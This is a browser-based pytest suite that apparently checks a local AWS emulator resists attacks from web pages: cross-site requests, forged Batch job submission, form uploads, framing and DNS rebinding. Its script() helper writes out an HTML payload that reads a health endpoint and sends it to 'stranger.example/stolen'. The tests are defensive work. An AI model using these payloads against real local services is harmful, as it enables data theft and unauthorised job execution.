"""What web pages can do to a local AWS while its developer visits them in a real browser: nothing.

Each test is an attack that gets through without `serve.gate`. What came of it is looked up at the server.
"""

import contextlib
import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error

from browsing import ask, chromium, foreign_server
from filebatch_local.serve.background import local_aws

pytestmark = pytest.mark.browser

NEW_FILES, RESULTS = "filebatch-local-new-files", "filebatch-local-results"
# A stranger's site; and another user's server on the same machine, which browsers call the same site.
PAGES = ("stranger.example", "127.0.0.1", "localhost")


@pytest.fixture(scope="module")
def aws():
    with local_aws() as running:
        yield running


@pytest.fixture(scope="module")
def browser():
    with chromium() as found:
        yield found


@pytest.fixture
def foreign():
    with foreign_server() as found:
        yield found


@pytest.fixture(params=PAGES)
def page(request, browser, foreign):
    found = foreign.visited(browser, request.param)
    yield found
    found.close()


@pytest.fixture
def bases(aws):
    """The names by which a page can call the server."""
    port = urlsplit(aws.endpoint).port
    return [f"http://{host}:{port}" for host in ("127.0.0.1", "localhost", f"{NEW_FILES}.localhost")]


@pytest.fixture(scope="module")
def clients(aws):
    return [aws.client(service) for service in ("s3", "batch", "sqs")]


@pytest.fixture
def kept(aws, clients):
    """What there is at the server is the same after the test as before."""
    s3, batch, sqs = clients

    def look():
        definitions = batch.describe_job_definitions()["jobDefinitions"]
        listed = batch.list_jobs(jobQueue=aws.settings["job_queue"], filters=[{"name": "JOB_NAME", "values": ["*"]}])
        return {
            "objects": [each["Key"] for each in s3.list_objects_v2(Bucket=NEW_FILES).get("Contents", [])],
            "definitions": [each["jobDefinitionName"] for each in definitions],
            "jobs": [each["jobName"] for each in listed["jobSummaryList"]],
            "queues": sqs.list_queues().get("QueueUrls", []),
        }

    before = look()
    yield
    assert look() == before


SIGNED = "AWS4-HMAC-SHA256 Credential=any/20260101/eu-west-1/{}/aws4_request, SignedHeaders=host, Signature=0"


def batch_call(page, base, operation, body):
    headers = {"Authorization": SIGNED.format("batch"), "Content-Type": "application/json"}
    return ask(page, f"{base}/v1/{operation}", method="POST", headers=headers, body=json.dumps(body))


def run_a_program(page, base, queue):
    requirements = [{"type": "VCPU", "value": "0.25"}, {"type": "MEMORY", "value": "512"}]
    container = {"image": "filebatch-worker:local", "command": ["true"], "resourceRequirements": requirements}
    definition = {"jobDefinitionName": "evil", "type": "container", "containerProperties": container}
    job = {"jobName": "evil", "jobQueue": queue, "jobDefinition": "evil", "shareIdentifier": "evil"}
    return [
        batch_call(page, base, "registerjobdefinition", definition),
        batch_call(page, base, "submitjob", job),
    ]


def test_a_request_that_is_sent_without_asking_first_changes_nothing(aws, page, bases, kept):
    topic, sns = aws.settings["topics"]["developers"], aws.client("sns")
    sns.delete_topic(TopicArn=topic)  # provisioning would make it anew
    for base in bases:
        for path in ("/_filebatch/provision", "/moto-api/reset", "/moto-api/recorder/start-recording"):
            ask(page, base + path, method="POST", mode="no-cors", body="{}", headers={"Content-Type": "text/plain"})
    assert topic not in [each["TopicArn"] for each in sns.list_topics()["Topics"]]
    assert len(aws.client("s3").list_buckets()["Buckets"]) == 2


def test_a_request_that_is_asked_for_first_is_not_allowed(aws, page, bases, kept):
    for base in bases:
        assert run_a_program(page, base, aws.settings["job_queue"]) == ["blocked"] * 2


def test_the_ledger_can_not_be_read(aws, page, bases):
    headers = {
        "Authorization": SIGNED.format("dynamodb"),
        "X-Amz-Target": "DynamoDB_20120810.Scan",
        "Content-Type": "application/x-amz-json-1.0",
    }
    body = json.dumps({"TableName": aws.settings["ledger"]})
    assert [ask(page, base, method="POST", headers=headers, body=body) for base in bases] == ["blocked"] * 3
    assert [ask(page, f"{base}/_filebatch/health") for base in bases] == ["blocked"] * 3


UPLOAD = """([url, key, html]) => {
  const form = document.createElement('form');
  Object.assign(form, {method: 'post', enctype: 'multipart/form-data', action: url, target: '_self'});
  form.append(Object.assign(document.createElement('input'), {name: 'key', value: key}));
  form.append(Object.assign(document.createElement('input'), {name: 'Content-Type', value: 'text/html'}));
  const file = Object.assign(document.createElement('input'), {name: 'file', type: 'file'});
  const chosen = new DataTransfer();
  chosen.items.add(new File([html], 'evil.html', {type: 'text/html'}));
  file.files = chosen.files;
  form.append(file);
  document.body.append(form);
  form.submit();
}"""


def test_a_form_uploads_nothing(page, bases, kept):
    for base in bases[:2]:
        with page.expect_navigation():
            page.evaluate(UPLOAD, [f"{base}/{NEW_FILES}", "tables/evil.html", "<p>"])
        page.go_back()


def script(foreign):
    """Return a file that sends home what it can read of the server that it lies on."""
    home = f"http://stranger.example:{foreign.port}/stolen"
    return (
        f"<script>fetch('/_filebatch/health').then(a => a.text()).then(t => location = '{home}?' + t.length)</script>"
    )


def test_an_uploaded_page_that_is_opened_neither_shows_nor_runs(aws, browser, foreign):
    """The worst case: the file is there, and the developer opens a link with the key in it."""
    s3 = aws.client("s3")
    s3.put_object(Bucket=NEW_FILES, Key="tables/evil.html", Body=script(foreign).encode(), ContentType="text/html")
    url = s3.generate_presigned_url("get_object", {"Bucket": NEW_FILES, "Key": "tables/evil.html"})
    page = browser.new_page()
    with page.expect_download() as download, contextlib.suppress(Error):  # it is no page, so there is none to go to
        page.goto(url)
    assert download.value.path().read_text() == script(foreign)
    page.goto("about:blank")
    page.set_content(f'<iframe src="{url.replace("&", "&amp;")}"></iframe><img src="{url.replace("&", "&amp;")}">')
    page.wait_for_load_state("networkidle")
    page.close()
    assert foreign.heard == []
    s3.delete_object(Bucket=NEW_FILES, Key="tables/evil.html")


def test_a_frame_shows_nothing(page, bases):
    for base in bases[:2]:
        page.set_content(f'<iframe src="{base}/{RESULTS}"></iframe>')
        page.wait_for_load_state("networkidle")
        assert "AccessDenied" in page.frames[1].content()


def test_a_name_that_is_bound_to_this_machine_later_is_no_way_in(aws, browser, kept):
    """DNS rebinding: a page of a stranger's host and of the server's port, which asks its own host."""
    base = f"http://rebound.example:{urlsplit(aws.endpoint).port}"
    page = browser.new_page()
    page.route(f"{base}/page", lambda route: route.fulfill(body="<p>Win a bicycle!", content_type="text/html"))
    page.goto(f"{base}/page")
    assert ask(page, f"{base}/_filebatch/health").startswith("403 ")
    assert all(answer.startswith("403 ") for answer in run_a_program(page, base, aws.settings["job_queue"]))
    page.close()
